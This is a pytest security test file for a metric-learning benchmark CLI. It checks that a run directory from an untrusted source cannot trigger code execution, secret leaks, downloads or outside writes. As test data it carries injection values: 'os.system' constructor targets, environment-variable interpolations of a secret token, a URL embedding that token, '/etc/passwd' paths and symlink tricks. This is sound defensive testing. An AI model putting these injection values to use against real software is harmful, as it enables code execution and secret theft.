"""A run directory may come from somebody else: what is in it is data. It names nothing that is imported, read or written."""

from __future__ import annotations

import json
import os
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from PIL import Image

from dmlbench.cli import run
from dmlbench.results.row_files import find_rows

TINY = ("trunk=convnet", "trunk.make.channels=[4,8]", "protocol=quick", "protocol.epochs=1", "protocol.embedding_dim=8")
DIGITS = ("dataset=digits", "dataset.make.images_per_class=4", "protocol.batch_size=16", "loss.samples_per_class=2")
FACTS = ("dataset.train_images=100", "dataset.query_images=100", "dataset.gallery_images=100")


@pytest.fixture(scope="module")
def trained(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A directory with data and runs of one run."""
    folder = tmp_path_factory.mktemp("stranger")
    paths = (f"paths.data={folder}/data", f"paths.runs={folder}/runs")
    assert run(["train", "loss=contrastive", *TINY, *DIGITS, *FACTS, *paths]) == 0
    return folder


@pytest.fixture(autouse=True)
def own_directory(trained: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Run every test in a directory of the user that contains the data, and no run yet."""
    home = tmp_path / "home"
    home.mkdir()
    monkeypatch.chdir(home)
    monkeypatch.setattr("sys.path", list(__import__("sys").path))
    monkeypatch.setenv("SECRET_TOKEN", "hunter2")
    (home / "data").symlink_to(trained / "data")


@pytest.fixture
def stranger(trained: Path) -> Path:
    """The run directory that somebody else sent."""
    shutil.copytree(trained / "runs", "received")
    [row] = find_rows(Path("received"))
    return row.parent


@pytest.fixture
def no_download(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Record the URLs that would be downloaded."""
    urls: list[str] = []
    monkeypatch.setattr("dmlbench.models.weights.download", lambda url, *arguments: urls.append(url))
    return urls


def edit(folder: Path, **columns: Any) -> None:
    file = folder / "row.json"
    file.write_text(json.dumps({**json.loads(file.read_text()), **columns}))


def edit_source(folder: Path, **values: Any) -> None:
    """Change what the row records about the data set."""
    source = json.loads(json.loads((folder / "row.json").read_text())["dataset_source"])
    edit(folder, dataset_source=json.dumps({**source, **values}))


def outside() -> set[str]:
    """Everything below the parent of the user's directory, except for the runs."""
    above = Path("..").resolve()
    found = {os.path.join(folder, name) for folder, dirs, files in os.walk(above) for name in (*dirs, *files)}
    return {one for one in found if not {"received", "mine"} & {*Path(one).parts}}


def evaluated(folder: Path, *options: str) -> int:
    """Evaluate a layer of the run, which needs its model; return the status. Nothing but the new row may be written."""
    before = outside()
    status = run(["evaluate", str(folder), *(options or ("layer=pooled",))])
    assert outside() - before == set()
    return status


def refused(capsys: pytest.CaptureFixture[str], folder: Path, *options: str) -> str:
    """Return the one sentence with which an evaluation is refused."""
    assert evaluated(folder, *options) == 2
    error = capsys.readouterr().err
    assert error.count("\n") == 1, error
    assert "hunter2" not in error
    return error


ATTACKS: dict[str, Callable[[Path], list[str]]] = {
    "a module by hydra.searchpath": lambda run_directory: ["hydra.searchpath=[pkg://evilmod]"],
    "a file by trunk.published": lambda run_directory: [
        "trunk.weights=x",
        f"+trunk.published.x={{url:'file://{run_directory}/payload',file:'{Path().resolve()}/tqdm.py'}}",
    ],
    "the environment in a URL": lambda run_directory: [
        f"hydra.searchpath=['file://{run_directory}/conf']",
        "trunk=evil",
    ],
    "an interpolation": lambda run_directory: ["dataset.make.root=${oc.env:SECRET_TOKEN}"],
    "images by paths.data": lambda run_directory: [f"paths.data={Path('..').resolve()}/elsewhere"],
    "images by dataset.make.root": lambda run_directory: [f"dataset.make.root={Path('..').resolve()}/elsewhere"],
    "a constructor": lambda run_directory: ["trunk.make._target_=evilmod.Evil"],
    "no loss": lambda run_directory: ["~loss"],
}


@pytest.mark.parametrize(
    ("attack", "file", "option"),
    [
        *((attack, "overrides.json", "layer=pooled") for attack in ATTACKS),
        ("images by paths.data", "words.json", "layer=pooled"),
        ("images by paths.data", "overrides.json", "whiten=3"),
        ("images by paths.data", "overrides.json", "beta=0.5"),
    ],
)
def test_recorded_overrides_are_never_composed(
    attack: str, file: str, option: str, stranger: Path, no_download: list[str]
) -> None:
    Path("evilmod.py").write_text("open('executed', 'w').close()\n")
    (stranger / "payload").write_text("open('executed', 'w').close()\n")
    (stranger / "conf" / "trunk").mkdir(parents=True)
    (stranger / "conf" / "trunk" / "evil.yaml").write_text(
        "label: E\nmake: {_target_: dmlbench.models.backbones.convnet.ConvNet, channels: [4, 8]}\nweights: x\n"
        "published: {x: {url: 'http://127.0.0.1:9/${oc.env:SECRET_TOKEN}'}}\n"
    )
    overrides = json.loads((stranger / "overrides.json").read_text()) + ATTACKS[attack](stranger.resolve())
    (stranger / "overrides.json").unlink()
    (stranger / file).write_text(json.dumps(overrides))
    assert evaluated(stranger, option) == 0
    assert no_download == []


def test_overrides_are_not_needed(stranger: Path) -> None:
    (stranger / "overrides.json").unlink()
    assert evaluated(stranger) == 0


@pytest.mark.parametrize(
    ("columns", "sentence"),
    [
        ({"trunk_make_target": "os.system"}, "trunk_make_target is 'os.system'"),
        ({"trunk_make_target": "evilmod.Evil"}, "trunk_make_target is 'evilmod.Evil'"),
        ({"trunk_make_target": None}, "trunk_make_target is None"),
        ({"trunk": "../../received/evil"}, "no trunk '../../received/evil'"),
        ({"trunk": "evil"}, "no trunk 'evil'"),
        ({"trunk": "resnet50,convnet"}, "no trunk 'resnet50,convnet'"),
        ({"trunk": "resnet50"}, "trunk_make_target is"),
        ({"trunk_make_channels": "${oc.env:SECRET_TOKEN}"}, "trunk_make_channels is '${oc.env:SECRET_TOKEN}'"),
        ({"trunk_make_channels": "hf-hub:evil/model"}, "trunk_make_channels is 'hf-hub:evil/model'"),
        ({"trunk_make_channels": '[{"_target_": "os.system"}]'}, "trunk_make_channels is"),
        ({"trunk_make_channels": "[" * 9000}, "trunk_make_channels is"),
        ({"trunk_make_channels": "[1000000000000]"}, "cannot be built"),
        ({"trunk_make_channels": "[-1]"}, "cannot be built"),
        ({"trunk_make_more_target": "os.system"}, "trunk_make_more_target"),
        ({"trunk_make_checkpoint_path": "/etc/passwd"}, "trunk_make_checkpoint_path"),
        ({"trunk_mean": "[0, 0]"}, "trunk.mean is"),
        ({"protocol_pooling": "${oc.env:SECRET_TOKEN}"}, "protocol_pooling is"),
        ({"protocol_head_layers": "[100000000000]"}, "each hidden layer needs a size of 1 to 65536"),
        ({"protocol_image_px": 10**9}, "protocol.image_px is 1000000000"),
        ({"protocol_threads": 10**6}, "protocol.threads is 1000000"),
        ({"protocol_unknown": 1}, "protocol.unknown is not known"),
        ({"split_digest": "0" * 16}, "are not those of the run"),
        ({"config_files": '{"dataset/../../received/evil": ""}'}, "no data set"),
        ({"config_files": "[" * 9000}, "dataset.root is missing"),
        ({"split_rule": "${oc.env:SECRET_TOKEN}"}, "split_rule is '${oc.env:SECRET_TOKEN}'"),
        ({"trunk_source_sha256": "0" * 64}, "source"),
        ({"dataset_source": "[" * 9000}, "are not those of the run"),
        ({"dataset_source": "[]"}, "are not those of the run"),
    ],
    ids=lambda value: next(iter(f"{k}={str(v)[:30]}" for k, v in value.items())) if isinstance(value, dict) else "",
)
def test_a_forged_column_is_refused_in_one_sentence(
    columns: dict[str, Any], sentence: str, stranger: Path, capsys: pytest.CaptureFixture[str], no_download: list[str]
) -> None:
    Path("evilmod.py").write_text("open('executed', 'w').close()\n")
    if "config_files" in columns:
        columns = {**columns, "dataset": "nothing"}
    edit(stranger, **columns)
    assert sentence in refused(capsys, stranger)
    assert no_download == []


@pytest.mark.parametrize(
    "values",
    [
        {"root": "/elsewhere"},
        {"root": "../elsewhere"},
        {"root": "${oc.env:SECRET_TOKEN}"},
        {"root": "link"},
        {"root": 3},
        {"manifest": "/etc/passwd"},
        {"make_target": "os.system"},
        {"make_root": "/elsewhere"},
        {"make_root": "elsewhere"},
        {"make_images_per_class": {"_target_": "os.system"}},
        {"make_images_per_class_target": "os.system"},
        {"make_images_per_class": "../elsewhere"},
        {"make_images_per_class": "${oc.env:SECRET_TOKEN}"},
        {"make_images_per_class": 10**9},
        {"make_more": 1},
        {"make": 3},
        {"on_unreadable": "${oc.env:SECRET_TOKEN}"},
        {"hydra": "x"},
    ],
    ids=str,
)
def test_a_forged_data_set_is_refused_or_ignored_and_nothing_is_written(
    values: dict[str, Any], stranger: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    Path("link").symlink_to("/")
    edit_source(stranger, **values)
    if evaluated(stranger) != 0:
        error = capsys.readouterr().err
        assert error.count("\n") == 1, error
        assert "hunter2" not in error


def test_a_run_directory_cannot_redirect_what_is_written(stranger: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert evaluated(stranger) == 0
    [written] = stranger.glob("evaluate-*")
    shutil.rmtree(written)
    target = Path("precious")
    target.mkdir()
    written.symlink_to(target.resolve())
    assert "is a link" in refused(capsys, stranger)
    assert list(target.iterdir()) == []


def test_models_are_read_from_regular_files_of_the_run_directory(stranger: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (stranger / "model.pt").rename("model.pt")
    (stranger / "model.pt").symlink_to(Path("model.pt").resolve())
    assert "it is a link" in refused(capsys, stranger)
    (stranger / "model.pt").unlink()
    os.mkfifo(stranger / "model.pt")
    assert "not a regular file" in refused(capsys, stranger)
    (stranger / "model.pt").unlink()
    assert "model.pt" in refused(capsys, stranger)


@pytest.mark.parametrize("file", ["0001.json", "0002/values.json"])
def test_trials_of_somebody_else_name_no_constructor(file: str, capsys: pytest.CaptureFixture[str]) -> None:
    pytest.importorskip("optuna")
    Path("evilmod.py").write_text("open('executed', 'w').close()\n")
    command = ["train", "loss=contrastive", *TINY, *DIGITS, *FACTS, "paths.runs=mine", "tuning.trials=1", "tuning.folds=2"]
    assert run([*command, "tuning.only=true", "protocol.epochs=0"]) == 0
    [trials] = Path("mine").rglob("trials")
    trial = json.loads((trials / "0001.json").read_text())
    forged = {"make._target_": "evilmod.Loss"} | trial["values"]
    (trials / file).parent.mkdir(exist_ok=True)
    (trials / file).write_text(json.dumps({**trial, "values": forged} if file == "0001.json" else forged))
    capsys.readouterr()
    assert run([*command, "tuning.only=false", "protocol.epochs=0", f"tuning.trials={file[3]}"]) == 2
    error = capsys.readouterr().err
    assert "has values outside of the search space" in error
    assert error.count("\n") == 1
    assert not Path("executed").exists()


# What keeps working


@pytest.fixture
def photos() -> Path:
    """Write a directory of images below the current directory."""
    generator = np.random.default_rng(0)
    for label in range(4):
        (Path("photos") / f"{label}").mkdir(parents=True)
        for k in range(4):
            pixels = generator.integers(0, 255, (24, 24, 3)).astype(np.uint8)
            Image.fromarray(pixels).save(f"photos/{label}/{k}.png")
    return Path("photos")


def train_on_photos(*overrides: str) -> Path:
    arguments = ("dataset=folder", "protocol.batch_size=4", "loss.samples_per_class=2", *TINY, "paths.runs=mine")
    assert run(["train", "loss=contrastive", *arguments, *overrides]) == 0
    [row] = find_rows(Path("mine"))
    return row.parent


def test_a_run_on_images_below_the_current_directory_needs_no_option(photos: Path) -> None:
    assert evaluated(train_on_photos("dataset.root=photos", "dataset.name=Birds of mine")) == 0


def test_images_elsewhere_have_to_be_named_again(photos: Path, capsys: pytest.CaptureFixture[str]) -> None:
    photos.rename("../photos")
    folder = train_on_photos("dataset.root=../photos")
    error = refused(capsys, folder)
    assert "dataset.root=../photos" in error
    assert evaluated(folder, "layer=pooled", "dataset.root=../photos") == 0


def test_other_images_are_refused(photos: Path, capsys: pytest.CaptureFixture[str]) -> None:
    folder = train_on_photos("dataset.root=photos")
    (photos / "0" / "0.png").rename(photos / "0" / "9.png")
    assert "are not those of the run" in refused(capsys, folder)


def test_own_trunks_and_losses_need_their_config_dir(capsys: pytest.CaptureFixture[str]) -> None:
    Path("own_model.py").write_text(
        "import torch\n\n\nclass Trunk(torch.nn.Module):\n    def __init__(self, size, inner):\n        super().__init__()\n"
        "        self.inner = inner\n        self.layer = torch.nn.Conv2d(3, size, 3)\n\n"
        "    def forward(self, images):\n        return self.inner(self.layer(images))\n\n\n"
        "class Loss(torch.nn.Module):\n    def forward(self, embeddings, labels):\n"
        "        return (embeddings @ embeddings.T).mean()\n"
    )
    inner = "{_target_: torch.nn.GELU, approximate: none}"
    for file, text in {
        "trunk/own": f"label: O\nmake: {{_target_: own_model.Trunk, size: 4, inner: {inner}}}",
        "loss/own": "label: O\nkind: pair\nmake: {_target_: own_model.Loss}",
    }.items():
        Path("conf", file).parent.mkdir(parents=True, exist_ok=True)
        Path("conf", f"{file}.yaml").write_text(text + "\n")
    own = ("trunk=own", "loss=own", "trunk.make.size=6", "trunk.make.inner.approximate=tanh")
    options = (*DIGITS, *FACTS, *TINY[2:], "paths.runs=mine", "--config-dir", "conf")
    assert run(["train", *own, *options]) == 0
    [row] = find_rows(Path("mine"))
    assert "no trunk 'own'" in refused(capsys, row.parent)
    assert evaluated(row.parent, "layer=pooled", "--config-dir", "conf") == 0
    Path("own_model.py").write_text(Path("own_model.py").read_text().replace("3, size, 3)", "3, size, 3, bias=True)"))
    __import__("sys").modules.pop("own_model")
    assert "source" in refused(capsys, row.parent, "layer=pooled", "--config-dir", "conf")


def test_rows_without_a_record_of_the_data_set_take_options(stranger: Path, capsys: pytest.CaptureFixture[str]) -> None:
    columns = json.loads((stranger / "row.json").read_text())
    assert columns["schema_version"] >= 3
    for name in ("dataset_source", "overrides", "config_files"):
        columns.pop(name, None)
    (stranger / "row.json").write_text(json.dumps({**columns, "schema_version": 1}))
    assert "are not those of the run" in refused(capsys, stranger)
    assert evaluated(stranger, "layer=pooled", "dataset.make.images_per_class=4") == 0


def test_options_of_the_data_set_are_for_runs(capsys: pytest.CaptureFixture[str]) -> None:
    np.savez("x.npz", embeddings=np.random.default_rng(0).random((8, 2), np.float32), labels=np.arange(8) % 2)
    assert run(["evaluate", "x.npz", "dataset.root=photos"]) == 2
    assert "dataset.root=photos is for runs" in capsys.readouterr().err
